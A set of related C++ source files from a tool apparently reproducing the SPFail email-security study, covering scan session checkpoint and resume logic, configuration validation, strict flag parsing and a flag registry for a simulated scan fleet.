  static ScanConfig apply_env(ScanConfig config);
};

}  // namespace spfail::session
