#include "session/scan_session.hpp"

#include <iostream>
#include <sstream>
#include <utility>

#include "snapshot/snapshot.hpp"
#include "util/strings.hpp"

namespace spfail::session {

namespace {

snapshot::StudySnapshot load_snapshot(const std::string& path) {
  return snapshot::StudySnapshot::decode(snapshot::load_file(path));
}

}  // namespace

ScanSession::ScanSession(ScanConfig config) : config_(std::move(config)) {
  config_.validate();
}

population::Fleet& ScanSession::fleet() {
  if (!fleet_) {
    population::FleetConfig fleet_config;
    fleet_config.scale = config_.scale;
    fleet_config.seed = config_.fleet_seed;
    fleet_ = std::make_unique<population::Fleet>(fleet_config);
  }
  return *fleet_;
}

longitudinal::StudyConfig ScanSession::study_config() {
  longitudinal::StudyConfig study_config;
  study_config.seed = config_.study_seed;
  study_config.threads = config_.threads;
  study_config.faults = config_.faults;
  study_config.trace = trace();
  return study_config;
}

void ScanSession::write_checkpoint(const longitudinal::Study& study,
                                   const longitudinal::Study::State& state) {
  const snapshot::StudySnapshot snap = study.capture(state);
  snapshot::save_atomically(config_.checkpoint_path, snap.encode());
  std::cerr << "checkpoint: wrote " << config_.checkpoint_path << " (round "
            << snap.rounds_done << "/" << study.total_rounds() << ")\n";
}

const scan::CampaignReport& ScanSession::initial() {
  if (initial_.has_value()) return *initial_;
  if (study_report_.has_value()) {
    // The study ran its own initial campaign; expose it.
    initial_ = study_report_->initial;
    return *initial_;
  }

  if (!config_.resume_path.empty()) {
    const snapshot::StudySnapshot snap = load_snapshot(config_.resume_path);
    if (snap.meta.kind != snapshot::SnapshotKind::Campaign) {
      throw snapshot::SnapshotError(
          "'" + config_.resume_path + "' is a " + to_string(snap.meta.kind) +
          " snapshot; an initial-only run resumes campaign snapshots");
    }
    if (snap.meta.fleet_seed != config_.fleet_seed ||
        snap.meta.scale != config_.scale ||
        snap.meta.fault_seed != config_.faults.seed ||
        snap.meta.fault_rate != config_.faults.rate ||
        snap.meta.tracing != config_.tracing()) {
      throw snapshot::SnapshotError(
          "campaign snapshot '" + config_.resume_path +
          "' was taken under a different configuration (seed/scale/faults/"
          "tracing must match)");
    }
    fleet().clock().advance_to(snap.clock_now);
    if (config_.tracing()) {
      trace_.clear();
      for (const auto& frame : snap.trace) trace_.record(frame);
    }
    initial_ = snap.initial;
    std::cerr << "resume: restored completed campaign from "
              << config_.resume_path << "\n";
    return *initial_;
  }

  scan::CampaignConfig campaign_config;
  campaign_config.prober.responder = fleet().responder();
  campaign_config.threads = config_.threads;
  campaign_config.faults = config_.faults;
  campaign_config.trace = trace();
  scan::Campaign campaign(campaign_config, fleet().dns(), fleet().clock(),
                          fleet());
  initial_ = campaign.run(fleet().targets());

  if (!config_.checkpoint_path.empty()) {
    snapshot::StudySnapshot snap;
    snap.meta.kind = snapshot::SnapshotKind::Campaign;
    snap.meta.fleet_seed = config_.fleet_seed;
    snap.meta.scale = config_.scale;
    snap.meta.fault_seed = config_.faults.seed;
    snap.meta.fault_rate = config_.faults.rate;
    snap.meta.tracing = config_.tracing();
    snap.clock_now = fleet().clock().now();
    snap.initial = *initial_;
    snap.degradation = initial_->degradation;
    if (config_.tracing()) snap.trace = trace_.frames();
    snapshot::save_atomically(config_.checkpoint_path, snap.encode());
    std::cerr << "checkpoint: wrote " << config_.checkpoint_path
              << " (campaign)\n";
  }
  return *initial_;
}

const longitudinal::StudyReport* ScanSession::study() {
  if (study_report_.has_value()) return &*study_report_;
  if (study_ran_) return nullptr;  // halted earlier
  study_ran_ = true;

  longitudinal::Study study(fleet(), study_config());

  longitudinal::Study::State state =
      config_.resume_path.empty()
          ? study.begin()
          : study.restore(load_snapshot(config_.resume_path));
  if (!config_.resume_path.empty()) {
    std::cerr << "resume: restored " << config_.resume_path << " at round "
              << state.next_round << "/" << study.total_rounds() << "\n";
  }

  const bool checkpointing = !config_.checkpoint_path.empty();
  const auto at_halt = [&]() {
    return config_.halt_after_rounds >= 0 &&
           state.next_round >=
               static_cast<std::size_t>(config_.halt_after_rounds);
  };
  const auto on_cadence = [&]() {
    return state.next_round %
               static_cast<std::size_t>(config_.checkpoint_every) ==
           0;
  };

  // Boundary protocol, applied after begin()/restore() and after every
  // round: checkpoint on cadence, then honour a halt request (which always
  // re-checkpoints so the on-disk state matches the stop point exactly).
  for (;;) {
    if (checkpointing && (on_cadence() || at_halt())) {
      write_checkpoint(study, state);
    }
    if (at_halt()) {
      std::cerr << "halt: stopping after " << state.next_round
                << " rounds as requested (resume with --resume "
                << config_.checkpoint_path << ")\n";
      halted_ = true;
      return nullptr;
    }
    if (!study.rounds_remaining(state)) break;
    study.run_round(state);
  }

  study_report_ = study.finish(std::move(state));
  initial_ = study_report_->initial;
  return &*study_report_;
}

std::string ScanSession::banner() {
  std::ostringstream os;
  os << "SPFail reproduction | scale=" << config_.scale
     << " (set SPFAIL_SCALE=1 for the paper's full population) | domains="
     << util::with_commas(static_cast<long long>(fleet().domains().size()))
     << " addresses="
     << util::with_commas(static_cast<long long>(fleet().address_count()));
  return os.str();
}

}  // namespace spfail::session
