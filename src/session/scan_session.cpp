#include "session/scan_session.hpp"

#include <algorithm>
#include <fstream>
#include <iostream>
#include <sstream>
#include <utility>

#include "obs/export.hpp"
#include "snapshot/snapshot.hpp"
#include "util/shutdown.hpp"
#include "util/strings.hpp"

namespace spfail::session {

namespace {

snapshot::StudySnapshot load_snapshot(const std::string& path) {
  return snapshot::StudySnapshot::decode(snapshot::load_file(path));
}

}  // namespace

ScanSession::ScanSession(ScanConfig config) : config_(std::move(config)) {
  config_.validate();
}

population::Fleet& ScanSession::fleet() {
  if (!fleet_) {
    population::FleetConfig fleet_config;
    fleet_config.scale = config_.scale;
    fleet_config.seed = config_.fleet_seed;
    fleet_config.lazy_hosts = config_.lazy_hosts;
    fleet_config.mix = scenario::resolve_mix(scenarios());
    fleet_ = std::make_unique<population::Fleet>(fleet_config);
  }
  return *fleet_;
}

const std::vector<scenario::ScenarioSpec>& ScanSession::scenarios() {
  if (!scenarios_.has_value()) {
    scenarios_ = config_.scenario.empty()
                     ? std::vector<scenario::ScenarioSpec>{}
                     : scenario::parse_scenario_list(config_.scenario);
  }
  return *scenarios_;
}

const std::vector<scenario::ScenarioReport>& ScanSession::scenario_reports() {
  if (scenario_reports_.has_value()) return *scenario_reports_;
  scenario_reports_.emplace();

  const population::PolicyMix mix = scenario::resolve_mix(scenarios());
  // A mix that stages nothing (baseline, or no --scenario) measures nothing:
  // report zero flows per spec without paying for a second fleet.
  std::unique_ptr<population::Fleet> staged;
  if (mix.stages_senders()) {
    population::FleetConfig fleet_config;
    fleet_config.scale = config_.scale;
    fleet_config.seed = config_.fleet_seed;
    fleet_config.lazy_hosts = config_.lazy_hosts;
    fleet_config.mix = mix;
    staged = std::make_unique<population::Fleet>(fleet_config);
  }

  scenario::RunnerOptions options;
  options.seed = config_.fleet_seed;
  options.rounds = config_.scenario_rounds < 0
                       ? longitudinal::Study::standard_round_count()
                       : static_cast<std::size_t>(config_.scenario_rounds);
  for (const scenario::ScenarioSpec& spec : scenarios()) {
    if (staged) {
      scenario_reports_->push_back(
          scenario::run_scenario(*staged, spec, options));
    } else {
      scenario::ScenarioReport report;
      report.name = spec.name;
      report.version = spec.version;
      scenario_reports_->push_back(std::move(report));
    }
  }
  return *scenario_reports_;
}

longitudinal::StudyConfig ScanSession::study_config() {
  longitudinal::StudyConfig study_config;
  study_config.seed = config_.study_seed;
  study_config.threads = config_.threads;
  study_config.sched.policy = config_.sched;
  study_config.sched.steal = config_.steal_mode;
  study_config.faults = config_.faults;
  study_config.trace = trace();
  study_config.metrics = metrics();
  study_config.dist = coordinator();
  return study_config;
}

dist::Coordinator* ScanSession::coordinator() {
  if (config_.workers <= 1) return nullptr;
  if (!coordinator_) {
    dist::Coordinator::Config dist_config;
    dist_config.workers = static_cast<std::size_t>(config_.workers);
    dist_config.restart_budget =
        static_cast<std::uint32_t>(config_.worker_restart_budget);
    // Per-worker checkpoints live next to the session checkpoint
    // (<checkpoint>.w<k>); validate() guarantees the path is set.
    dist_config.checkpoint_stem = config_.checkpoint_path;
    coordinator_ =
        std::make_unique<dist::Coordinator>(fleet(), std::move(dist_config));
  }
  return coordinator_.get();
}

void ScanSession::record_metric_line(std::string_view phase, int round) {
  metric_lines_.push_back(obs::round_snapshot_json(metrics_, phase, round,
                                                   config_.metrics_wall));
}

void ScanSession::write_metrics_files() {
  if (!config_.metrics()) return;
  {
    std::ofstream out(config_.metrics_path, std::ios::trunc);
    for (const auto& line : metric_lines_) out << line << "\n";
  }
  {
    std::ofstream out(config_.metrics_path + ".prom", std::ios::trunc);
    obs::write_prometheus(metrics_, out, config_.metrics_wall);
  }
}

void ScanSession::check_snapshot_strings(const snapshot::StudySnapshot& snap) {
  if (!snap.has_strings) return;
  if (!(snap.strings == fleet().strings())) {
    throw snapshot::SnapshotError(
        "snapshot intern table does not match the rebuilt fleet's (the "
        "population this process generated differs from the one the "
        "checkpoint was taken over)");
  }
}

void ScanSession::check_snapshot_workers(const snapshot::StudySnapshot& snap) {
  const std::uint32_t snap_workers = std::max<std::uint32_t>(snap.workers, 1);
  if (snap_workers != static_cast<std::uint32_t>(config_.workers)) {
    throw snapshot::SnapshotError(
        "snapshot '" + config_.resume_path + "' was written by a " +
        std::to_string(snap_workers) +
        "-worker run; resume with --workers " + std::to_string(snap_workers) +
        " (host residues are sharded by the worker partition)");
  }
}

void ScanSession::discard_orphan_checkpoint() {
  if (config_.checkpoint_path.empty()) return;
  if (snapshot::discard_partial(config_.checkpoint_path)) {
    std::cerr << "checkpoint: removed orphaned " << config_.checkpoint_path
              << ".tmp left by a writer killed mid-checkpoint\n";
  }
}

void ScanSession::write_checkpoint(const longitudinal::Study& study,
                                   const longitudinal::Study::State& state) {
  snapshot::StudySnapshot snap = study.capture(state);
  snap.metric_lines = metric_lines_;
  snap.workers =
      config_.workers > 1 ? static_cast<std::uint32_t>(config_.workers) : 0;
  if (config_.checkpoint_strings) {
    snap.has_strings = true;
    snap.strings = fleet().strings();
  }
  snapshot::save_atomically(config_.checkpoint_path, snap.encode());
  std::cerr << "checkpoint: wrote " << config_.checkpoint_path << " (round "
            << snap.rounds_done << "/" << study.total_rounds() << ")\n";
}

const scan::CampaignReport& ScanSession::initial() {
  if (initial_.has_value()) return *initial_;
  if (study_report_.has_value()) {
    // The study ran its own initial campaign; expose it.
    initial_ = study_report_->initial;
    return *initial_;
  }

  if (!config_.resume_path.empty()) {
    const snapshot::StudySnapshot snap = load_snapshot(config_.resume_path);
    if (snap.meta.kind != snapshot::SnapshotKind::Campaign) {
      throw snapshot::SnapshotError(
          "'" + config_.resume_path + "' is a " + to_string(snap.meta.kind) +
          " snapshot; an initial-only run resumes campaign snapshots");
    }
    if (snap.meta.fleet_seed != config_.fleet_seed ||
        snap.meta.scale != config_.scale ||
        snap.meta.fault_seed != config_.faults.seed ||
        snap.meta.fault_rate != config_.faults.rate ||
        snap.meta.tracing != config_.tracing()) {
      throw snapshot::SnapshotError(
          "campaign snapshot '" + config_.resume_path +
          "' was taken under a different configuration (seed/scale/faults/"
          "tracing must match)");
    }
    check_snapshot_strings(snap);
    check_snapshot_workers(snap);
    fleet().clock().advance_to(snap.clock_now);
    if (config_.tracing()) {
      trace_.clear();
      for (const auto& frame : snap.trace) trace_.record(frame);
    }
    if (snap.has_metrics != config_.metrics()) {
      throw snapshot::SnapshotError(
          snap.has_metrics
              ? "campaign snapshot carries metrics, this run has them disabled"
              : "campaign snapshot has no metrics, this run expects them");
    }
    if (config_.metrics()) {
      metrics_ = snap.metrics;
      metric_lines_ = snap.metric_lines;
    }
    initial_ = snap.initial;
    std::cerr << "resume: restored completed campaign from "
              << config_.resume_path << "\n";
    return *initial_;
  }

  discard_orphan_checkpoint();
  scan::CampaignConfig campaign_config;
  campaign_config.prober.responder = fleet().responder();
  campaign_config.threads = config_.threads;
  campaign_config.sched.policy = config_.sched;
  campaign_config.sched.steal = config_.steal_mode;
  campaign_config.faults = config_.faults;
  campaign_config.trace = trace();
  campaign_config.metrics = metrics();
  campaign_config.runner = coordinator();
  scan::Campaign campaign(campaign_config, fleet().dns(), fleet().clock(),
                          fleet());
  // Stream targets straight from the fleet's compact records — no
  // std::string/vector copies of the whole population (DESIGN.md §14).
  initial_ = campaign.run(fleet().target_source());
  if (config_.metrics()) record_metric_line("initial");

  if (!config_.checkpoint_path.empty()) {
    snapshot::StudySnapshot snap;
    snap.meta.kind = snapshot::SnapshotKind::Campaign;
    snap.meta.fleet_seed = config_.fleet_seed;
    snap.meta.scale = config_.scale;
    snap.meta.fault_seed = config_.faults.seed;
    snap.meta.fault_rate = config_.faults.rate;
    snap.meta.tracing = config_.tracing();
    snap.clock_now = fleet().clock().now();
    snap.workers =
        config_.workers > 1 ? static_cast<std::uint32_t>(config_.workers) : 0;
    snap.initial = *initial_;
    snap.degradation = initial_->degradation;
    if (config_.tracing()) snap.trace = trace_.frames();
    if (config_.metrics()) {
      snap.has_metrics = true;
      snap.metrics = metrics_;
      snap.metric_lines = metric_lines_;
    }
    if (config_.checkpoint_strings) {
      snap.has_strings = true;
      snap.strings = fleet().strings();
    }
    snapshot::save_atomically(config_.checkpoint_path, snap.encode());
    std::cerr << "checkpoint: wrote " << config_.checkpoint_path
              << " (campaign)\n";
  }
  return *initial_;
}

const longitudinal::StudyReport* ScanSession::study() {
  if (study_report_.has_value()) return &*study_report_;
  if (study_ran_) return nullptr;  // halted earlier
  study_ran_ = true;

  longitudinal::Study study(fleet(), study_config());
  // Workers fork lazily at the first batch; the study must be reachable from
  // the coordinator state they inherit.
  if (dist::Coordinator* c = coordinator()) c->bind_study(&study);

  longitudinal::Study::State state;
  if (config_.resume_path.empty()) {
    discard_orphan_checkpoint();
    state = study.begin();
    if (config_.metrics()) record_metric_line("initial");
  } else {
    const snapshot::StudySnapshot snap = load_snapshot(config_.resume_path);
    check_snapshot_strings(snap);
    check_snapshot_workers(snap);
    state = study.restore(snap);
    // restore() reloaded the registry; the rendered lines the halted run had
    // already emitted come back verbatim so the stream continues seamlessly.
    if (config_.metrics()) metric_lines_ = snap.metric_lines;
    std::cerr << "resume: restored " << config_.resume_path << " at round "
              << state.next_round << "/" << study.total_rounds() << "\n";
  }

  const bool checkpointing = !config_.checkpoint_path.empty();
  const auto at_halt = [&]() {
    return config_.halt_after_rounds >= 0 &&
           state.next_round >=
               static_cast<std::size_t>(config_.halt_after_rounds);
  };
  const auto on_cadence = [&]() {
    return state.next_round %
               static_cast<std::size_t>(config_.checkpoint_every) ==
           0;
  };

  // Boundary protocol, applied after begin()/restore() and after every
  // round: checkpoint on cadence, honour a caught termination signal like a
  // halt request (final checkpoint, clean exit), then honour
  // --halt-after-rounds. Both stop paths always re-checkpoint so the
  // on-disk state matches the stop point exactly.
  for (;;) {
    const bool signalled = util::shutdown_requested();
    if (checkpointing && (on_cadence() || at_halt() || signalled)) {
      write_checkpoint(study, state);
    }
    if (signalled) {
      if (checkpointing) {
        std::cerr << "interrupt: caught termination signal after "
                  << state.next_round
                  << " rounds; state saved (resume with --resume "
                  << config_.checkpoint_path << ")\n";
      } else {
        std::cerr << "interrupt: caught termination signal after "
                  << state.next_round
                  << " rounds; no --checkpoint, progress not saved\n";
      }
      halted_ = true;
      interrupted_ = true;
      if (coordinator_) coordinator_->shutdown();
      return nullptr;
    }
    if (at_halt()) {
      std::cerr << "halt: stopping after " << state.next_round
                << " rounds as requested (resume with --resume "
                << config_.checkpoint_path << ")\n";
      halted_ = true;
      if (coordinator_) coordinator_->shutdown();
      return nullptr;
    }
    if (!study.rounds_remaining(state)) break;
    study.run_round(state);
    if (config_.metrics()) {
      record_metric_line("round", static_cast<int>(state.next_round) - 1);
    }
  }

  study_report_ = study.finish(std::move(state));
  if (config_.metrics()) record_metric_line("final");
  initial_ = study_report_->initial;
  if (coordinator_) coordinator_->shutdown();
  return &*study_report_;
}

std::string ScanSession::banner() {
  std::ostringstream os;
  os << "SPFail reproduction | scale=" << config_.scale
     << " (set SPFAIL_SCALE=1 for the paper's full population) | domains="
     << util::with_commas(static_cast<long long>(fleet().domains().size()))
     << " addresses="
     << util::with_commas(static_cast<long long>(fleet().address_count()));
  return os.str();
}

}  // namespace spfail::session
