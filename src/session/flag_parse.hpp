// Strict full-string value parsers shared by every table-driven flag
// surface (session/flag_registry.cpp for ScanConfig, svc/ for the scan
// service): empty input, trailing garbage, and range errors all throw a
// ScanConfigError naming the offending flag — no silent atof/atoi coercion
// to 0. Kept header-only so a registry table's apply lambdas can call them
// without an extra translation unit.
#pragma once

#include <cerrno>
#include <climits>
#include <cstdint>
#include <cstdlib>
#include <string>
#include <string_view>

#include "session/scan_config.hpp"

namespace spfail::session {

[[noreturn]] inline void reject_value(std::string_view what,
                                      std::string_view text,
                                      const char* wanted) {
  throw ScanConfigError(std::string(what) + " expects " + wanted + ", got '" +
                        std::string(text) + "'");
}

inline double parse_double(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  const double v = std::strtod(text, &end);
  if (end == text || *end != '\0' || errno == ERANGE) {
    reject_value(what, text, "a number");
  }
  return v;
}

inline int parse_int(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  const long v = std::strtol(text, &end, 10);
  if (end == text || *end != '\0' || errno == ERANGE ||
      v < static_cast<long>(INT_MIN) || v > static_cast<long>(INT_MAX)) {
    reject_value(what, text, "an integer");
  }
  return static_cast<int>(v);
}

inline std::uint64_t parse_u64(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  if (*text == '-') reject_value(what, text, "a non-negative integer");
  const unsigned long long v = std::strtoull(text, &end, 10);
  if (end == text || *end != '\0' || errno == ERANGE) {
    reject_value(what, text, "a non-negative integer");
  }
  return static_cast<std::uint64_t>(v);
}

inline bool parse_bool(std::string_view what, const char* text) {
  const std::string_view v = text;
  if (v == "1" || v == "true") return true;
  if (v == "0" || v == "false" || v.empty()) return false;
  reject_value(what, v, "0/1/true/false");
}

// A switch given on the CLI carries no text (present = on); the same switch
// from the environment carries 0/1/true/false.
inline bool switch_on(std::string_view what, const char* text) {
  return text == nullptr ? true : parse_bool(what, text);
}

}  // namespace spfail::session
