#include "session/scan_config.hpp"

#include <cstdlib>
#include <stdexcept>
#include <string_view>

#include "scenario/scenario.hpp"
#include "session/flag_registry.hpp"

namespace spfail::session {

void ScanConfig::validate() const {
  if (!(scale > 0.0 && scale <= 1.0)) {
    throw ScanConfigError("--scale must be in (0, 1], got " +
                          std::to_string(scale));
  }
  if (threads < 0) {
    throw ScanConfigError("--threads must be >= 0, got " +
                          std::to_string(threads));
  }
  if (!(faults.rate >= 0.0 && faults.rate <= 1.0)) {
    throw ScanConfigError("--fault-rate must be in [0, 1], got " +
                          std::to_string(faults.rate));
  }
  if (checkpoint_every < 1) {
    throw ScanConfigError("--checkpoint-every must be >= 1, got " +
                          std::to_string(checkpoint_every));
  }
  if (halt_after_rounds < -1) {
    throw ScanConfigError("--halt-after-rounds must be >= 0, got " +
                          std::to_string(halt_after_rounds));
  }
  if (halt_after_rounds >= 0 && checkpoint_path.empty()) {
    throw ScanConfigError(
        "--halt-after-rounds requires --checkpoint (halting without writing "
        "a checkpoint would lose the run)");
  }
  if (workers < 1) {
    throw ScanConfigError("--workers must be >= 1, got " +
                          std::to_string(workers));
  }
  if (worker_restart_budget < 0) {
    throw ScanConfigError("--worker-restart-budget must be >= 0, got " +
                          std::to_string(worker_restart_budget));
  }
  if (workers > 1 && checkpoint_path.empty()) {
    throw ScanConfigError(
        "--workers > 1 requires --checkpoint (crashed workers respawn from "
        "per-worker checkpoints stored next to it)");
  }
  if (metrics_wall && metrics_path.empty()) {
    throw ScanConfigError(
        "--metrics-wall requires --metrics (there is nowhere to write the "
        "wall-clock lane)");
  }
  if (scenario_rounds < -1) {
    throw ScanConfigError("--scenario-rounds must be >= -1, got " +
                          std::to_string(scenario_rounds));
  }
  if (!scenario.empty()) {
    try {
      scenario::parse_scenario_list(scenario);
    } catch (const std::invalid_argument& error) {
      throw ScanConfigError("--scenario: " + std::string(error.what()));
    }
  }
}

ScanConfig ScanConfig::from_env() { return from_env(ScanConfig{}); }

ScanConfig ScanConfig::from_args(int argc, const char* const* argv) {
  return from_args(argc, argv, ScanConfig{});
}

ScanConfig ScanConfig::from_env(const ScanConfig& defaults) {
  ScanConfig config = apply_env(defaults);
  config.validate();
  return config;
}

ScanConfig ScanConfig::apply_env(ScanConfig config) {
  apply_env_rows(flag_registry(), config);
  return config;
}

ScanConfig ScanConfig::from_args(int argc, const char* const* argv,
                                 const ScanConfig& defaults) {
  ScanConfig config = apply_env(defaults);
  apply_arg_rows(flag_registry(), argc, argv, config);
  config.validate();
  return config;
}

}  // namespace spfail::session
