#include "session/scan_config.hpp"

#include <cerrno>
#include <climits>
#include <cstdlib>
#include <string_view>

namespace spfail::session {

namespace {

// Strict full-string numeric parsers: empty input, trailing garbage, and
// range errors all throw — no silent atof/atoi coercion to 0.

[[noreturn]] void reject(std::string_view what, std::string_view text,
                         const char* wanted) {
  throw ScanConfigError(std::string(what) + " expects " + wanted + ", got '" +
                        std::string(text) + "'");
}

double parse_double(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  const double v = std::strtod(text, &end);
  if (end == text || *end != '\0' || errno == ERANGE) {
    reject(what, text, "a number");
  }
  return v;
}

int parse_int(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  const long v = std::strtol(text, &end, 10);
  if (end == text || *end != '\0' || errno == ERANGE ||
      v < static_cast<long>(INT_MIN) || v > static_cast<long>(INT_MAX)) {
    reject(what, text, "an integer");
  }
  return static_cast<int>(v);
}

std::uint64_t parse_u64(std::string_view what, const char* text) {
  char* end = nullptr;
  errno = 0;
  if (*text == '-') reject(what, text, "a non-negative integer");
  const unsigned long long v = std::strtoull(text, &end, 10);
  if (end == text || *end != '\0' || errno == ERANGE) {
    reject(what, text, "a non-negative integer");
  }
  return static_cast<std::uint64_t>(v);
}

bool parse_bool(std::string_view what, const char* text) {
  const std::string_view v = text;
  if (v == "1" || v == "true") return true;
  if (v == "0" || v == "false" || v.empty()) return false;
  reject(what, v, "0/1/true/false");
}

util::SchedPolicy parse_sched(std::string_view what, const char* text) {
  try {
    return util::parse_sched_policy(text);
  } catch (const std::invalid_argument&) {
    reject(what, text, "auto/static/steal");
  }
}

util::StealMode parse_steal(std::string_view what, const char* text) {
  try {
    return util::parse_steal_mode(text);
  } catch (const std::invalid_argument&) {
    reject(what, text, "auto/none/random/adversarial");
  }
}

}  // namespace

void ScanConfig::validate() const {
  if (!(scale > 0.0 && scale <= 1.0)) {
    throw ScanConfigError("--scale must be in (0, 1], got " +
                          std::to_string(scale));
  }
  if (threads < 0) {
    throw ScanConfigError("--threads must be >= 0, got " +
                          std::to_string(threads));
  }
  if (!(faults.rate >= 0.0 && faults.rate <= 1.0)) {
    throw ScanConfigError("--fault-rate must be in [0, 1], got " +
                          std::to_string(faults.rate));
  }
  if (checkpoint_every < 1) {
    throw ScanConfigError("--checkpoint-every must be >= 1, got " +
                          std::to_string(checkpoint_every));
  }
  if (halt_after_rounds < -1) {
    throw ScanConfigError("--halt-after-rounds must be >= 0, got " +
                          std::to_string(halt_after_rounds));
  }
  if (halt_after_rounds >= 0 && checkpoint_path.empty()) {
    throw ScanConfigError(
        "--halt-after-rounds requires --checkpoint (halting without writing "
        "a checkpoint would lose the run)");
  }
  if (workers < 1) {
    throw ScanConfigError("--workers must be >= 1, got " +
                          std::to_string(workers));
  }
  if (worker_restart_budget < 0) {
    throw ScanConfigError("--worker-restart-budget must be >= 0, got " +
                          std::to_string(worker_restart_budget));
  }
  if (workers > 1 && checkpoint_path.empty()) {
    throw ScanConfigError(
        "--workers > 1 requires --checkpoint (crashed workers respawn from "
        "per-worker checkpoints stored next to it)");
  }
  if (metrics_wall && metrics_path.empty()) {
    throw ScanConfigError(
        "--metrics-wall requires --metrics (there is nowhere to write the "
        "wall-clock lane)");
  }
}

ScanConfig ScanConfig::from_env() { return from_env(ScanConfig{}); }

ScanConfig ScanConfig::from_args(int argc, const char* const* argv) {
  return from_args(argc, argv, ScanConfig{});
}

ScanConfig ScanConfig::from_env(const ScanConfig& defaults) {
  ScanConfig config = apply_env(defaults);
  config.validate();
  return config;
}

ScanConfig ScanConfig::apply_env(ScanConfig config) {
  if (const char* env = std::getenv("SPFAIL_SCALE")) {
    config.scale = parse_double("SPFAIL_SCALE", env);
  }
  if (const char* env = std::getenv("SPFAIL_FAULT_SEED")) {
    config.faults.seed = parse_u64("SPFAIL_FAULT_SEED", env);
  }
  if (const char* env = std::getenv("SPFAIL_FAULT_RATE")) {
    config.faults.rate = parse_double("SPFAIL_FAULT_RATE", env);
  }
  if (const char* env = std::getenv("SPFAIL_TRACE")) {
    config.trace_path = env;
  }
  if (const char* env = std::getenv("SPFAIL_CSV_DIR")) {
    config.csv_dir = env;
  }
  if (const char* env = std::getenv("SPFAIL_METRICS")) {
    config.metrics_path = env;
  }
  if (const char* env = std::getenv("SPFAIL_METRICS_WALL")) {
    config.metrics_wall = parse_bool("SPFAIL_METRICS_WALL", env);
  }
  if (const char* env = std::getenv("SPFAIL_LAZY_HOSTS")) {
    config.lazy_hosts = parse_bool("SPFAIL_LAZY_HOSTS", env);
  }
  if (const char* env = std::getenv("SPFAIL_CHECKPOINT_STRINGS")) {
    config.checkpoint_strings = parse_bool("SPFAIL_CHECKPOINT_STRINGS", env);
  }
  if (const char* env = std::getenv("SPFAIL_SCHED")) {
    config.sched = parse_sched("SPFAIL_SCHED", env);
  }
  if (const char* env = std::getenv("SPFAIL_STEAL")) {
    config.steal_mode = parse_steal("SPFAIL_STEAL", env);
  }
  if (const char* env = std::getenv("SPFAIL_WORKERS")) {
    config.workers = parse_int("SPFAIL_WORKERS", env);
  }
  if (const char* env = std::getenv("SPFAIL_WORKER_RESTART_BUDGET")) {
    config.worker_restart_budget =
        parse_int("SPFAIL_WORKER_RESTART_BUDGET", env);
  }
  return config;
}

ScanConfig ScanConfig::from_args(int argc, const char* const* argv,
                                 const ScanConfig& defaults) {
  ScanConfig config = apply_env(defaults);
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        throw ScanConfigError("missing value for " + std::string(arg));
      }
      return argv[++i];
    };
    if (arg == "--scale") {
      config.scale = parse_double(arg, next());
    } else if (arg == "--seed") {
      config.fleet_seed = parse_u64(arg, next());
    } else if (arg == "--threads") {
      config.threads = parse_int(arg, next());
    } else if (arg == "--initial-only") {
      config.initial_only = true;
    } else if (arg == "--sched") {
      config.sched = parse_sched(arg, next());
    } else if (arg == "--steal-mode") {
      config.steal_mode = parse_steal(arg, next());
    } else if (arg == "--fault-rate") {
      config.faults.rate = parse_double(arg, next());
    } else if (arg == "--fault-seed") {
      config.faults.seed = parse_u64(arg, next());
    } else if (arg == "--csv") {
      config.csv_dir = next();
    } else if (arg == "--trace") {
      config.trace_path = next();
    } else if (arg == "--metrics") {
      config.metrics_path = next();
    } else if (arg == "--metrics-wall") {
      config.metrics_wall = true;
    } else if (arg == "--lazy-hosts") {
      config.lazy_hosts = true;
    } else if (arg == "--checkpoint-strings") {
      config.checkpoint_strings = true;
    } else if (arg == "--checkpoint") {
      config.checkpoint_path = next();
    } else if (arg == "--checkpoint-every") {
      config.checkpoint_every = parse_int(arg, next());
    } else if (arg == "--resume") {
      config.resume_path = next();
    } else if (arg == "--halt-after-rounds") {
      config.halt_after_rounds = parse_int(arg, next());
    } else if (arg == "--workers") {
      config.workers = parse_int(arg, next());
    } else if (arg == "--worker-restart-budget") {
      config.worker_restart_budget = parse_int(arg, next());
    } else {
      throw ScanConfigError("unknown option " + std::string(arg));
    }
  }
  config.validate();
  return config;
}

}  // namespace spfail::session
