#include "session/flag_registry.hpp"

#include "scenario/scenario.hpp"
#include "session/flag_parse.hpp"

namespace spfail::session {

namespace {

util::SchedPolicy parse_sched(std::string_view what, const char* text) {
  try {
    return util::parse_sched_policy(text);
  } catch (const std::invalid_argument&) {
    reject_value(what, text, "auto/static/steal");
  }
}

util::StealMode parse_steal(std::string_view what, const char* text) {
  try {
    return util::parse_steal_mode(text);
  } catch (const std::invalid_argument&) {
    reject_value(what, text, "auto/none/random/adversarial");
  }
}

constexpr FlagDef kFlags[] = {
    {"--scale", "SPFAIL_SCALE", "RATE", "0.05",
     "population scale in (0, 1]: fraction of the full study fleet to build",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.scale = parse_double(what, text);
     }},
    {"--seed", nullptr, "SEED", "2021",
     "fleet generation seed (the study seed is fixed by the paper)",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.fleet_seed = parse_u64(what, text);
     }},
    {"--scenario", "SPFAIL_SCENARIO", "NAMES", "(none)",
     "comma-separated scenario specs to stage and measure "
     "(baseline, forwarding, alignment, misconfig); specs compose",
     [](ScanConfig& c, std::string_view, const char* text) {
       c.scenario = text;
     }},
    {"--scenario-rounds", "SPFAIL_SCENARIO_ROUNDS", "N", "-1 (study rounds)",
     "longitudinal re-measurement rounds per scenario outcome table; "
     "-1 mirrors the study's round count, 0 keeps the initial table only",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.scenario_rounds = parse_int(what, text);
     }},
    {"--threads", nullptr, "N", "0 (auto)",
     "scan worker threads; 0 defers to SPFAIL_THREADS / hardware",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.threads = parse_int(what, text);
     }},
    {"--initial-only", nullptr, nullptr, "off",
     "run only the initial scan, skipping the longitudinal study",
     [](ScanConfig& c, std::string_view what, const char* text) {
       c.initial_only = switch_on(what, text);
     }},
